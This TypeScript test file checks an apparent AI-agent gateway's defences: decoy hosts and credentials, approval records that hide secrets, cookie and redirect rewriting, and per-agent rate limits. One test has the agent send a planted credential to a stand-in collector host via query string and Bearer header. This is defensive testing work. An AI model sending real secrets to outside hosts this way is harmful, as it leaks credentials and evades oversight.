import { createServer, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { GateClient } from '../support/gate-client.ts';
import { openRealGate, type RealGate } from '../support/real-gate.ts';
import type { TestAgent } from '../unit/passport/support.ts';

/** An agent that feels for what the line lets slip: places that are none, approvals that stretch, cookies that stray. */

const POLICY = `
@id("held")
@hold("Sending needs a person.")
@bindHeaders("X-Note, X-Api-Key")
permit (principal, action == Action::"http.call", resource == Service::"api")
when { context.method == "PUT" };
`;

let gate: RealGate;
let upstream: Server;
let port: number;
let agent: TestAgent;
let client: GateClient;
let answer: (response: ServerResponse) => void;
const seen: { readonly url: string; readonly cookie: string | null }[] = [];

beforeAll(async () => {
  upstream = createServer((request, response) => {
    seen.push({ url: request.url ?? '', cookie: request.headers.cookie ?? null });
    answer(response);
  });
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
  port = (upstream.address() as AddressInfo).port;
  gate = await openRealGate({ policy: POLICY, rate: { burst: 12, perSecond: 0.001 } });
  await gate.services.put(
    { name: 'api', origins: [`http://api.example:${port}`], allowPrivate: true },
    'admin',
  );
});

beforeEach(async () => {
  seen.length = 0;
  answer = (response) => response.end('ok');
  agent = await gate.newAgent(['api:read', 'api:write']);
  client = await GateClient.of(agent, gate.gateway.port);
});

afterAll(async () => {
  await gate?.close();
  upstream?.closeAllConnections();
  upstream?.close();
});

const plant = (kind: 'host' | 'credential', name: string, value?: string) =>
  gate.detector.decoys.plant(
    { tenant: 'default', kind, name, severity: 'critical', ...(value === undefined ? {} : { value }) },
    'admin',
  );

describe('a place that no service is at', () => {
  test('is refused as unknown, and a decoy among such places as a decoy', async () => {
    const host = 'db-backup.internal.example';
    expect((await client.forward(`http://${host}/`)).json.code).toBe('service_unknown');
    const decoy = await plant('host', 'backup-host', host);
    expect((await client.forward(`http://${host}/`)).json.code).toBe('decoy_used');
    const { head } = await client.connect(`${host}:443`);
    expect(head).toContain('sallyport-refusal: decoy_used');
    const alerts = await gate.eventsOf('alert.raised');
    expect(JSON.stringify(alerts)).toContain(decoy.id);
    expect((await gate.eventsOf('call.refused')).at(-1)).toMatchObject({
      code: 'decoy_used',
      actor: { agentId: agent.id },
      findings: [{ check: 'decoy.used' }],
    });
  });

  test('is told of with the decoy that was to go there', async () => {
    const { value } = await plant('credential', 'carried');
    const answers = [
      await client.forward(`http://collector.example/?k=${encodeURIComponent(value)}`),
      await client.forward('http://collector.example/', { headers: { authorization: `Bearer ${value}` } }),
    ];
    expect(answers.map(({ json }) => json.code)).toEqual(['decoy_used', 'decoy_used']);
  });
});

describe('an approval', () => {
  const put = (headers: Record<string, string>) =>
    client.ask('/s/api/mail', { method: 'PUT', headers, body: 'to=anna' });

  test('shows the fields that it is for, secrets as their digest', async () => {
    const key = `fake-key-${crypto.randomUUID()}`;
    const held = await put({ 'content-type': 'text/plain', 'x-note': 'first', 'x-api-key': key });
    expect(held.json.code).toBe('approval_required');
    const record = await gate.approvals.get('default', String(held.json.approvalId));
    expect(record?.shown.headers).toEqual([
      ['x-api-key', expect.stringMatching(/^\[\d+ characters, SHA-256 [\w-]{12}\]$/)],
      ['x-note', 'first'],
      ['content-type', 'text/plain'],
    ]);
    expect(JSON.stringify(record)).not.toContain(key);
    expect(record?.shown).toMatchObject({ body: 'to=anna', bodyBytes: 7, bodyCut: false });
  });

  test.each([
    ['type', { 'content-type': 'application/x-www-form-urlencoded' }],
    ['coding', { 'content-type': 'text/plain', 'content-encoding': 'gzip' }],
  ])('does not cover the same body under another %s', async (_name, headers) => {
    const held = await put({ 'content-type': 'text/plain' });
    const id = String(held.json.approvalId);
    await gate.approvals.decide({ tenant: 'default', id, status: 'approved', by: 'alice', reason: null });
    const other = await put(headers);
    expect(other.json.code).toBe('approval_required');
    expect(other.json.approvalId).not.toBe(id);
    expect((await put({ 'content-type': 'text/plain' })).status).toBe(200);
  });
});

describe('reverse mode, where all services share one host', () => {
  test('keeps a cookie with the service that set it', async () => {
    answer = (response) =>
      response
        .writeHead(200, {
          'set-cookie': [
            'a=1; Path=/; HttpOnly',
            'b=2; Domain=api.example; path=/v1; Secure',
            'c=3',
            'd="x;Path=/y"; PATH=relative',
          ],
        })
        .end();
    const { headers } = await client.ask('/s/api/login');
    expect(headers['set-cookie']).toEqual([
      'a=1; Path=/s/api/; HttpOnly',
      'b=2; path=/s/api/v1; Secure',
      'c=3; Path=/s/api/',
      'd="x; Path=/s/api/y"; PATH=/s/api/',
    ]);
  });

  test.each([
    ['a path', '/next?a=b#c', '/s/api/next?a=b#c'],
    ['its own address', 'http://api.example:PORT/next?a=b', '/s/api/next?a=b'],
    ['its own address without a scheme', '//api.example:PORT/next', '/s/api/next'],
    ['a place beside', 'next', 'next'],
    ['another place', 'https://elsewhere.example/x', 'https://elsewhere.example/x'],
    ['another port', 'http://api.example:1/x', 'http://api.example:1/x'],
  ])('leads a redirect to %s back through the gate', async (_name, location, expected) => {
    answer = (response) =>
      response.writeHead(302, { location: location.replace('PORT', String(port)) }).end();
    const { headers } = await client.ask('/s/api/old');
    expect(headers.location).toBe(expected);
  });

  test('leaves both alone where hosts are real', async () => {
    answer = (response) => response.writeHead(302, { location: '/next', 'set-cookie': 'a=1; Path=/' }).end();
    const { headers } = await client.forward(`http://api.example:${port}/old`);
    expect([headers.location, headers['set-cookie']]).toEqual(['/next', ['a=1; Path=/']]);
  });
});

describe('the limits of one agent', () => {
  test('a session that calls too fast is told when to come again, and another agent is not', async () => {
    const statuses: number[] = [];
    for (let count = 0; count < 13; count++) statuses.push((await client.ask('/s/api/x')).status);
    expect(statuses).toEqual([...Array.from({ length: 12 }, () => 200), 429]);
    const refused = await client.ask('/s/api/x');
    expect(refused.json.code).toBe('throttled');
    expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
    const other = await GateClient.of(await gate.newAgent(['api:read']), gate.gateway.port);
    expect((await other.ask('/s/api/x')).status).toBe(200);
  });
});
